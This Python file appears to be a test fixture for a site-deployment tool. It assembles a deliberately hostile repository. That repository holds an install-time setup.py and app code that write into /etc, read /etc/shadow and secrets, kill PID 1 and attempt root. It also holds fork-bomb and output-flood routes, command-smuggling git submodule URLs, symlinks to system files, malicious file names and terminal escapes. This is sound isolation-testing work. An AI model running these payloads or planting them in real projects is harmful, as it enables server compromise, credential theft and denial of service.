"""Provide a repository that tries to harm everything its code can reach."""

from __future__ import annotations

NAME, HOST = "hostile", "hostile.example.org"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m[red]markup[/red]\x00\x7f\x9b1m"
REACHES = """\
import glob, json, os, pathlib, socket, subprocess

WRITES = ("/etc/owned", "/etc/cron.d/owned", "/etc/systemd/system/owned.service", "/root/owned",
          "/usr/local/bin/owned",
          "/var/lib/piwizard/owned", "/var/log/piwizard/owned", "/opt/piwizard/owned", "/etc/nginx/conf.d/owned.conf",
          "/srv/owned", "/srv/myflask/owned", "/srv/myflask/data/owned", "/srv/hostile/owned",
          "/srv/hostile/releases/owned", "/var/cache/piwizard/owned", "/run/owned", "/run/piwizard/owned")
READS = ("/etc/shadow", "/var/lib/piwizard/secrets.json", "/srv/myflask/app.env", "/srv/hostile/app.env",
         "/srv/myflask/data/result.json", "/srv/myflask/current/app/app.py", "/root/answers.toml",
         "/root/private/secret", "/srv/myflask/current/venv", "/srv/myflask/current/venv/pyvenv.cfg",
         "/proc/1/environ", "/etc/ssl/private", *glob.glob("/var/log/piwizard/*/*"))
RUNS = (("sudo", "-n", "id"), ("systemctl", "stop", "myflask.service"), ("mount", "-t", "tmpfs", "x", "/mnt"),
        ("chown", "root", __file__), ("kill", "-9", "1"), ("nginx", "-s", "stop"))


def reached():
    done = []
    reads, runs = list(READS), list(RUNS)
    if os.path.exists("/proc/1/comm"):
        # Others are hidden, so this is process 1 of a namespace of its own.
        reads.remove("/proc/1/environ")
        runs.remove(("kill", "-9", "1"))
    for path in WRITES:
        try:
            pathlib.Path(path).write_text("owned")
            done.append("wrote " + path)
        except OSError:
            pass
    for path in reads:
        try:
            if path.startswith("/root/") and os.path.samefile(path, "/srv/hostile/data" + path[5:]):
                continue  # its own data: it is shown at the paths below /root that the code names
        except OSError:
            pass
        try:
            os.listdir(path) if os.path.isdir(path) else pathlib.Path(path).read_bytes()
            done.append("read " + path)
        except OSError:
            pass
    for argv in runs:
        try:
            ended = subprocess.run(argv, capture_output=True, timeout=20)
            if ended.returncode == 0:
                done.append("ran " + " ".join(argv))
        except (OSError, subprocess.SubprocessError):
            pass
    try:
        os.setuid(0)
        done.append("is root")
    except OSError:
        pass
    with socket.socket(socket.AF_UNIX) as other:
        try:
            other.connect("/run/piwizard-myflask.sock")
            done.append("spoke to another site's socket")
        except OSError:
            pass
    return done
"""
SETUP = """\
import json, os, pathlib, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from reach import reached
here = os.path.dirname(os.path.abspath(__file__))
pathlib.Path(here, "evil_module.py").write_text("REACHED = " + repr(json.dumps(reached())))
print("\\x1b]0;owned\\x07 built")
from setuptools import setup
setup(name="evil", version="1", py_modules=["evil_module"])
"""
FLOOD = """\
import sys
piece = "x" * 65535 + chr(10)
for _ in range(int(sys.argv[1]) // 65536):
    sys.stdout.write(piece)
"""
APP = """\
import os, sys, time
from flask import Flask
from reach import reached

app = Flask(__name__)


@app.get("/")
def index():
    return "harmless"


@app.get("/reached")
def show_reached():
    return reached()


@app.get("/bomb")
def bomb():
    made = 0
    for _ in range(3000):
        try:
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
            made += 1
        except OSError:
            break
    return str(made)


@app.get("/flood")
def flood():
    piece = "y" * 65535 + chr(10)
    for _ in range(16384):
        sys.stderr.write(piece)
    return "1 GB"
"""
FILES: dict[str, str | bytes | None] = {
    "app.py": APP,
    "reach.py": REACHES,
    "flood.py": FLOOD,
    "requirements.txt": "flask\nsetuptools\nwheel\n./evil\n",
    "evil/setup.py": SETUP,
    "evil/reach.py": REACHES,
    "evil/evil_module.py": "",
    "-rf": "an option",
    "--config": "an option",
    "static/-rf": "an option",
    "static/--upload-pack=touch x": "an option",
    "static/a\nb.css": "body {}",
    "static/\x1b[31mred.css": "body {}",
    "static/style.css": "body { color: #222 }\n" * 40,
    ".piwizard-requirements.txt/in-the-way": "a folder where a file is about to be written",
    ".gitattributes": "* filter=evil\n*.css filter=evil diff=evil merge=evil\n",
    ".lfsconfig": '[lfs]\n\turl = "file:///root/private"\n',
    "hooks/post-checkout": "#!/bin/sh\ntouch /tmp/owned\n",
    ".git-hooks/post-checkout": "#!/bin/sh\ntouch /tmp/owned\n",
    "pip.conf": "[global]\nindex-url = http://127.0.0.1:1/\n",
    "sitecustomize.py": "import pathlib; pathlib.Path('/tmp/customized').touch()\n",
}
LINKS = {
    "static/shadow": "/etc/shadow",
    "static/etc": "/etc",
    "static/secrets.json": "../../../../../../var/lib/piwizard/secrets.json",
    "static/robots.txt": "/etc/shadow",
    "instance": "/etc",
    "templates": "/root",
}
MODULES = (
    "ext::sh -c touch% /tmp/owned",
    "--upload-pack=touch /tmp/owned",
    "file:///root/private",
    "/root/private",
    "../../../../root/private",
    "ssh://-oProxyCommand=touch%20/tmp/owned/x",
)


def answers(repo: str, *, more: str = "") -> str:
    """Return the answers for the hostile site and for a harmless first one."""
    return f"""
[sites.{NAME}.site]
domains = ["{HOST}"]

[sites.{NAME}.app]
repo = "{repo}"
static = {{ "/static/" = "static" }}
writable = ["uploads"]
{more}"""
